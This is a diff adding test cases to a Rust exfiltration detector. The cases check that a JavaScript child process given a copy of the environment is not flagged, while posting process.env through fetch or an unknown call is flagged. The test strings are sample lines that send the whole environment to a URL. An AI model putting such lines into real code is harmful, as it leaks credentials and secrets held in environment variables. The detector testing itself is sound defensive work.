@@ -3736,6 +3736,16 @@ fn an_environment_copy_a_child_process_gets_is_no_dump() {
     for text in dumps {
         assert!(exfiltrates(&[("scripts/run.py", text), post]), "{text}");
     }
+    // JavaScript: the `env` option of a launcher, and the same
+    // environment as a field of posted data or of an unknown call.
+    let js_child = "const { spawn } = require('child_process');\nspawn('npm', ['test'], {\n  env: { ...process.env, CI: '1' },\n});\n";
+    assert!(!exfiltrates(&[("scripts/run.js", js_child), post]));
+    for text in [
+        "fetch(u, { method: 'POST', body: JSON.stringify({ env: process.env }) });\n",
+        "send(u, {\n  env: process.env,\n});\n",
+    ] {
+        assert!(exfiltrates(&[("scripts/run.js", text), post]), "{text}");
+    }
 }
 
 /// Shells, Perl, Ruby and Tcl spell `eval` in lower case: a label
